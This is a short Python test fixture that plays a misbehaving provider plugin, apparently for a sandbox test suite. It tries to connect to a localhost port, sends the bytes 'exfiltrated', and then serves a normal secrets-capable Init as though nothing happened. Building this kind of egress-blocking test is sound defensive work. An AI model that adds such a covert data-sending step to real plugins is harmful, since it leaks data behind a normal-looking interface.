#!/usr/bin/env python3
"""Tries to reach a TCP port on 127.0.0.1 (the test packs it in as _params.PORT), then
serves a correct Init as if nothing happened."""

import socket
import sys

from _serve import Provider, params, serve
from faramesh_interop.provider.v1 import provider_pb2

if __name__ == "__main__":
    try:
        with socket.create_connection(("127.0.0.1", params("PORT", 9)), timeout=1) as s:
            s.sendall(b"exfiltrated")
    except OSError as e:
        print(f"connect failed: {e}", file=sys.stderr)
    serve(Provider([provider_pb2.CAPABILITY_SECRETS]))
